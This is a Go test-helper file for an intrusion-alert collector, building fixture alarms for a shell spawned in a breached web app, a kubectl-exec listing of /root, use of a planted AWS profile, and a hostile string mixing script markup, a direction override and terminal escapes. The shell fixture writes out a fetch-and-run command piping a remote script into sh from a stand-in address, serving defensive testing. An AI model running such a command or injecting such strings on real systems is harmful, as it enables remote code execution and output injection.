package webtest

import (
	"context"
	"crypto/rand"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/hardstand/hardstand/canary/alert"
	"github.com/hardstand/hardstand/canary/collector/store"
	"github.com/hardstand/hardstand/canary/collector/store/database"
)

// Hostile is text that an intruder would choose: markup, a change of writing
// direction, something invisible, a control character.
const Hostile = "<script>alert(1)</script>\u202egpj.\u200bexe\x1b[2J"

// Store opens an empty store in a file.
func Store(t *testing.T) store.Store {
	t.Helper()
	db, err := database.Open(t.Context(), filepath.Join(t.TempDir(), "collector.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := db.Close(); err != nil {
			t.Error(err)
		}
	})
	return db
}

// Policy tells two sinks of everything.
func Policy(now time.Time) store.Policy {
	return store.Policy{Now: now, Sinks: []store.SinkFilter{{Name: "oncall"}, {Name: "chat"}}, Regroup: 24 * time.Hour, Thresholds: []int64{10}, RepeatAfter: 5 * time.Minute}
}

// Shell is a shell in a web application that was broken into.
func Shell(build string, at time.Time) store.Alarm {
	a := alarm(build, "sh", store.Critical, at)
	a.Event.Argv = []string{"sh", "-c", "curl -s http://203.0.113.9/x|sh"}
	a.Event.Path, a.Event.Cwd, a.Event.Origin = "/usr/bin/sh", "/srv/app", alert.FromInside
	a.Event.Env = []string{"PATH", "HOME", "DATABASE_URL"}
	a.Event.Ancestors = []alert.Process{
		{PID: 44, Comm: "convert", Exe: "/srv/app/convert", Argv: []string{"/srv/app/convert", "upload.svg"}},
		{PID: 1, Comm: "shop", Exe: "/srv/app/shop", Argv: []string{"/srv/app/shop", "--listen", ":8080"}},
	}
	a.Event.Peers = []alert.Peer{{FD: 0, Remote: "203.0.113.9:4444", Local: "10.2.0.7:51822"}}
	a.Event.Latch, a.Event.OnTrip, a.Event.PID, a.Event.PPID = alert.LatchSet, alert.TripAlert, 61, 44
	a.Source = "203.0.113.9:4444"
	return a
}

func alarm(build, decoy string, severity store.Severity, at time.Time) store.Alarm {
	var nonce alert.Nonce
	_, _ = rand.Read(nonce[:])
	e := &alert.Event{Build: build, Decoy: decoy, Nonce: nonce, Time: at.UnixMicro(), UID: 65532, EUID: 65532, GID: 65532, PID: 77,
		Container: strings.Repeat("4f0a9c2e", 8), Host: "shop-7d9f", Pod: "0b7c1d9e-5d3a-4a55-9f0e-2f6d1f0c8a11"}
	return store.Alarm{Kind: store.KindDecoy, Channel: store.ChannelHTTPS, Build: build, Decoy: decoy, Nonce: nonce.String(), Proof: store.ProofKey,
		Timing: store.OnTime, Severity: severity, At: at, Received: at, Event: e}
}

// Listing is somebody who looks around through kubectl exec.
func Listing(build string, at time.Time) store.Alarm {
	a := alarm(build, "ls", store.High, at)
	a.Event.Argv, a.Event.Cwd, a.Event.Origin = []string{"ls", "-la", "/root"}, "/", alert.FromOutside
	return a
}

// Odd is an alarm whose every text is hostile.
func Odd(build string, at time.Time) store.Alarm {
	a := Shell(build, at)
	a.Event.Argv, a.Event.Cwd, a.Event.Env = []string{Hostile, "a b", ""}, Hostile, []string{Hostile}
	a.Event.Ancestors = []alert.Process{{PID: 9, Comm: Hostile, Exe: Hostile, Argv: []string{Hostile}}}
	a.Event.Host, a.Source = Hostile, Hostile
	return a
}

// Profile is the use of a planted AWS profile.
func Profile(build string, at time.Time) store.Alarm {
	a := alarm(build, "aws", store.Critical, at)
	a.Kind, a.Channel, a.Event, a.Source = store.KindToken, "aws", nil, "198.51.100.23:40112"
	a.Facts = map[string]string{"service": "sts", "action": "GetCallerIdentity", "agent": "aws-cli/2.31.0"}
	return a
}

// Fill registers canaries and commits a morning's alarms, oldest first. The
// sink "chat" fails.
func Fill(t *testing.T, s store.Store, now time.Time) {
	t.Helper()
	ctx := t.Context()
	check(t, s.ImportCanaries(ctx, []store.Canary{
		{Build: "shop-2026-11", Image: "registry.example/shop:4.2", Digest: "sha256:" + strings.Repeat("8d31c04f", 8), Owner: "team-shop", Route: "#shop-alarms",
			Decoys: []string{"sh", "ls", "curl", "wget"}, Tokens: []string{"aws", "kubeconfig", "ssh"}, Guard: true},
		{Build: "billing-2026-10", Image: "registry.example/billing:1.9", Owner: "team-money", Decoys: []string{"sh", "ls"}},
	}))
	check(t, s.SetSinks(ctx, []string{"oncall", "chat"}))
	check(t, s.Heartbeat(ctx, map[string]time.Time{"shop-2026-11": now.Add(-40 * time.Second)}))
	commit(t, s, Listing("billing-2026-10", now.Add(-26*time.Hour)))
	for n := range 3 {
		commit(t, s, Listing("billing-2026-10", now.Add(-26*time.Hour+time.Duration(n)*time.Minute)))
	}
	commit(t, s, Profile("shop-2026-11", now.Add(-9*time.Minute)))
	commit(t, s, Shell("shop-2026-11", now.Add(-2*time.Minute)))
	for _, sink := range []string{"oncall", "chat"} {
		list, err := s.Claim(ctx, sink, 10, time.Minute, now)
		check(t, err)
		for _, d := range list {
			if sink == "oncall" {
				check(t, s.Complete(ctx, d.ID, now.Add(-time.Minute)))
			} else {
				check(t, s.Fail(ctx, d.ID, "hooks.example answered 503: upstream is down", now.Add(time.Minute), now))
			}
		}
	}
}

func commit(t *testing.T, s store.Store, a store.Alarm) { t.Helper(); Commit(t, s, a) }

// Commit stores one alarm as if it arrived when it says.
func Commit(t *testing.T, s store.Store, a store.Alarm) store.Outcome {
	t.Helper()
	out, err := s.Commit(context.Background(), []store.Arrival{{Alarm: a}}, Policy(a.Received))
	check(t, err)
	if len(out) != 1 || out[0].Incident == 0 {
		t.Fatalf("outcome %+v", out)
	}
	return out[0]
}

func check(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}
